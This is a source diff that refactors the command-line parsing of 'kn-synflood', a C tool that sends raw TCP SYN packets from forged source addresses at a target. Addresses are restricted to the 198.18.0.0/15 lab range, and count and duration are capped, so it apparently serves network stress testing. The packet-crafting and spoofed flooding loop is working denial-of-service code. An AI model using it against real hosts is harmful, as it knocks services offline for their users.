@@ -11,7 +11,6 @@
  */
 #include <arpa/inet.h>
 #include <errno.h>
-#include <getopt.h>
 #include <netinet/in.h>
 #include <netinet/ip.h>
 #include <netinet/tcp.h>
@@ -23,13 +22,21 @@
 #include <time.h>
 #include <unistd.h>
 
+#include "util/opts.h"
+
 #define LAB_NET		     0xc6120000U /* 198.18.0.0 */
 #define LAB_MASK	     0xfffe0000U /* /15 */
 #define MAX_COUNT	     10000000UL
 #define MAX_DURATION_S	     300
-#define EXIT_USAGE	     2
+#define DEFAULT_DURATION_S   60
+#define MAX_RATE_PPS	     10000000UL
+#define MAX_PORT	     65535
+#define HOST_TEXT_BYTES	     32
+#define PROGRAM_NAME	     "kn-synflood"
 #define FIRST_EPHEMERAL_PORT 1024
 #define PORT_SPAN	     64000
+
+#include "tool.h" /* after PROGRAM_NAME */
 
 static uint16_t fold(uint32_t sum)
 {
@@ -50,105 +57,144 @@ static uint32_t sum16(const void *buf, size_t len, uint32_t sum)
 	return sum;
 }
 
-static int usage_error(const char *what, const char *value)
+static void usage(FILE *out)
 {
-	fprintf(stderr,
-		"kn-synflood: %s '%s'\n"
-		"usage: kn-synflood --target IP:PORT --sources "
-		"A.B.C.D-A.B.C.E --count N [--rate PPS] [--duration S]\n",
-		what, value ? value : "");
-	return EXIT_USAGE;
+	fprintf(out, "Usage: " PROGRAM_NAME " --target IP:PORT --sources "
+		     "A.B.C.D-A.B.C.E --count N [--rate PPS] [--duration S]\n"
+		     "Sends N TCP SYNs to IP:PORT from the source range (in "
+		     "198.18.0.0/15), at most\n"
+		     "PPS a second (default: as fast as it can), for at most S "
+		     "seconds (default 60).\n");
 }
 
-static uint64_t now_ns(void)
-{
-	struct timespec ts;
+struct flood {
+	struct sockaddr_in dst;
+	uint32_t first, last; /* source range, host order */
+	uint64_t count, rate, duration_s;
+};
 
-	clock_gettime(CLOCK_MONOTONIC, &ts);
-	return (uint64_t)ts.tv_sec * 1000000000ULL + (uint64_t)ts.tv_nsec;
-}
+enum option_id {
+	OPT_TARGET = 256,
+	OPT_SOURCES,
+	OPT_COUNT,
+	OPT_RATE,
+	OPT_DURATION,
+};
+
+static const struct option long_options[] = {
+    {"target", required_argument, NULL, OPT_TARGET},
+    {"sources", required_argument, NULL, OPT_SOURCES},
+    {"count", required_argument, NULL, OPT_COUNT},
+    {"rate", required_argument, NULL, OPT_RATE},
+    {"duration", required_argument, NULL, OPT_DURATION},
+    {NULL, 0, NULL, 0},
+};
 
 static int in_lab(uint32_t host_addr)
 {
 	return (host_addr & LAB_MASK) == LAB_NET;
 }
 
+/* IP:PORT, an address of the lab. */
+static int parse_target(const struct opts_parser *cli, int id, const char *arg,
+			struct flood *f)
+{
+	static const char want[] =
+	    "want IPv4:PORT in 198.18.0.0/15, a port from 1 to 65535";
+	char host[HOST_TEXT_BYTES];
+	const char *colon = strrchr(arg, ':');
+	uint64_t port;
+
+	if (!colon || (size_t)(colon - arg) >= sizeof(host))
+		return opts_bad_value(cli, id, arg, want);
+	snprintf(host, sizeof(host), "%.*s", (int)(colon - arg), arg);
+	if (inet_pton(AF_INET, host, &f->dst.sin_addr) != 1 ||
+	    !in_lab(ntohl(f->dst.sin_addr.s_addr)))
+		return opts_bad_value(cli, id, arg, want);
+	if (opts_parse_u64(cli, id, colon + 1, 1, MAX_PORT, &port))
+		return -EINVAL;
+	f->dst.sin_port = htons((uint16_t)port);
+	return 0;
+}
+
+/* A.B.C.D-A.B.C.E, both in the lab, in order. */
+static int parse_sources(const struct opts_parser *cli, int id, const char *arg,
+			 struct flood *f)
+{
+	static const char want[] = "want A.B.C.D-A.B.C.E in 198.18.0.0/15, "
+				   "the first not above the last";
+	char host[HOST_TEXT_BYTES];
+	const char *dash = strchr(arg, '-');
+	struct in_addr a, b;
+
+	if (!dash || (size_t)(dash - arg) >= sizeof(host))
+		return opts_bad_value(cli, id, arg, want);
+	snprintf(host, sizeof(host), "%.*s", (int)(dash - arg), arg);
+	if (inet_pton(AF_INET, host, &a) != 1 ||
+	    inet_pton(AF_INET, dash + 1, &b) != 1)
+		return opts_bad_value(cli, id, arg, want);
+	f->first = ntohl(a.s_addr);
+	f->last = ntohl(b.s_addr);
+	if (f->last < f->first || !in_lab(f->first) || !in_lab(f->last))
+		return opts_bad_value(cli, id, arg, want);
+	return 0;
+}
+
+static int parse_option(const struct opts_parser *cli, int id, const char *arg)
+{
+	struct flood *f = cli->ctx;
+
+	switch (id) {
+	case OPT_TARGET:
+		return parse_target(cli, id, arg, f);
+	case OPT_SOURCES:
+		return parse_sources(cli, id, arg, f);
+	case OPT_COUNT:
+		return opts_parse_u64(cli, id, arg, 1, MAX_COUNT, &f->count);
+	case OPT_RATE:
+		return opts_parse_u64(cli, id, arg, 0, MAX_RATE_PPS, &f->rate);
+	case OPT_DURATION:
+		return opts_parse_u64(cli, id, arg, 1, MAX_DURATION_S,
+				      &f->duration_s);
+	default:
+		return -EINVAL;
+	}
+}
+
+static int parse_args(int argc, char **argv, struct flood *f)
+{
+	const struct opts_parser cli =
+	    OPTS_PARSER(PROGRAM_NAME, long_options, parse_option, usage, f);
+	int ret;
+
+	memset(f, 0, sizeof(*f));
+	f->dst.sin_family = AF_INET;
+	f->duration_s = DEFAULT_DURATION_S;
+	ret = opts_parse(&cli, argc, argv);
+	if (ret)
+		return ret;
+	if (!f->dst.sin_port || !f->first || !f->count)
+		return opts_error(&cli, "--target, --sources and --count are "
+					"required");
+	return OPTS_RUN;
+}
+
 int main(int argc, char **argv)
 {
-	static const struct option options[] = {
-	    {"target", required_argument, NULL, 't'},
-	    {"sources", required_argument, NULL, 's'},
-	    {"count", required_argument, NULL, 'n'},
-	    {"rate", required_argument, NULL, 'r'},
-	    {"duration", required_argument, NULL, 'd'},
-	    {"help", no_argument, NULL, 'h'},
-	    {NULL, 0, NULL, 0},
-	};
 	struct {
 		struct iphdr ip;
 		struct tcphdr tcp;
 	} __attribute__((packed)) pkt;
-	struct sockaddr_in dst = {.sin_family = AF_INET};
-	uint32_t first = 0, last = 0, span;
-	unsigned long count = 0, rate = 0, sent = 0, failed = 0, duration = 60;
-	char host[32], *colon, *dash;
+	struct flood f;
+	uint32_t span;
+	unsigned long sent = 0, failed = 0;
 	uint64_t start, deadline;
-	int opt, fd, one = 1;
+	int fd, one = 1, ret;
 
-	while ((opt = getopt_long(argc, argv, "h", options, NULL)) != -1) {
-		switch (opt) {
-		case 't':
-			snprintf(host, sizeof(host), "%s", optarg);
-			colon = strchr(host, ':');
-			if (!colon)
-				return usage_error("bad --target", optarg);
-			*colon = '\0';
-			if (inet_pton(AF_INET, host, &dst.sin_addr) != 1 ||
-			    atoi(colon + 1) <= 0 || atoi(colon + 1) > 65535)
-				return usage_error("bad --target", optarg);
-			dst.sin_port = htons((uint16_t)atoi(colon + 1));
-			break;
-		case 's': {
-			struct in_addr a, b;
-
-			snprintf(host, sizeof(host), "%s", optarg);
-			dash = strchr(host, '-');
-			if (!dash)
-				return usage_error("bad --sources", optarg);
-			*dash = '\0';
-			if (inet_pton(AF_INET, host, &a) != 1 ||
-			    inet_pton(AF_INET, dash + 1, &b) != 1)
-				return usage_error("bad --sources", optarg);
-			first = ntohl(a.s_addr);
-			last = ntohl(b.s_addr);
-			break;
-		}
-		case 'n':
-			count = strtoul(optarg, NULL, 10);
-			break;
-		case 'r':
-			rate = strtoul(optarg, NULL, 10);
-			break;
-		case 'd':
-			duration = strtoul(optarg, NULL, 10);
-			break;
-		case 'h':
-			usage_error("help", "");
-			return 0;
-		default:
-			return usage_error("unknown option", argv[optind - 1]);
-		}
-	}
-	if (!dst.sin_port || !first || last < first)
-		return usage_error("--target and --sources are required", "");
-	if (!in_lab(first) || !in_lab(last) ||
-	    !in_lab(ntohl(dst.sin_addr.s_addr)))
-		return usage_error("addresses must be in 198.18.0.0/15", "");
-	if (!count || count > MAX_COUNT)
-		return usage_error("--count must be 1 to 10000000", "");
-	if (!duration || duration > MAX_DURATION_S)
-		return usage_error("--duration must be 1 to 300", "");
-	span = last - first + 1;
+	ret = parse_args(argc, argv, &f);
+	if (ret)
+		return ret == OPTS_HELP ? 0 : OPTS_EXIT_USAGE;
+	span = f.last - f.first + 1;
 
 	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
 	if (fd < 0 ||
@@ -157,14 +203,14 @@ int main(int argc, char **argv)
 		return 1;
 	}
 	start = now_ns();
-	deadline = start + duration * 1000000000ULL;
-	while (sent + failed < count && now_ns() < deadline) {
+	deadline = start + f.duration_s * TOOL_NS_PER_S;
+	while (sent + failed < f.count && now_ns() < deadline) {
 		uint32_t i = (uint32_t)(sent + failed);
-		uint32_t src = htonl(first + i % span);
+		uint32_t src = htonl(f.first + i % span);
 		uint32_t sum;
 
-		if (rate &&
-		    (sent + failed) * 1000000000ULL / rate > now_ns() - start) {
+		if (f.rate && (sent + failed) * TOOL_NS_PER_S / f.rate >
+				  now_ns() - start) {
 			continue; /* paced: spin until the next slot */
 		}
 		memset(&pkt, 0, sizeof(pkt));
@@ -174,11 +220,11 @@ int main(int argc, char **argv)
 		pkt.ip.protocol = IPPROTO_TCP;
 		pkt.ip.tot_len = htons(sizeof(pkt));
 		pkt.ip.saddr = src;
-		pkt.ip.daddr = dst.sin_addr.s_addr;
+		pkt.ip.daddr = f.dst.sin_addr.s_addr;
 		pkt.ip.check = htons(fold(sum16(&pkt.ip, sizeof(pkt.ip), 0)));
 		pkt.tcp.source = htons(
 		    (uint16_t)(FIRST_EPHEMERAL_PORT + (i / span) % PORT_SPAN));
-		pkt.tcp.dest = dst.sin_port;
+		pkt.tcp.dest = f.dst.sin_port;
 		pkt.tcp.seq = htonl(i * 2654435761U);
 		pkt.tcp.doff = 5;
 		pkt.tcp.syn = 1;
@@ -187,8 +233,8 @@ int main(int argc, char **argv)
 		    sum16(&pkt.ip.saddr, 8, 0) + IPPROTO_TCP + sizeof(pkt.tcp);
 		pkt.tcp.check =
 		    htons(fold(sum16(&pkt.tcp, sizeof(pkt.tcp), sum)));
-		if (sendto(fd, &pkt, sizeof(pkt), 0, (struct sockaddr *)&dst,
-			   sizeof(dst)) < 0)
+		if (sendto(fd, &pkt, sizeof(pkt), 0, (struct sockaddr *)&f.dst,
+			   sizeof(f.dst)) < 0)
 			failed++;
 		else
 			sent++;
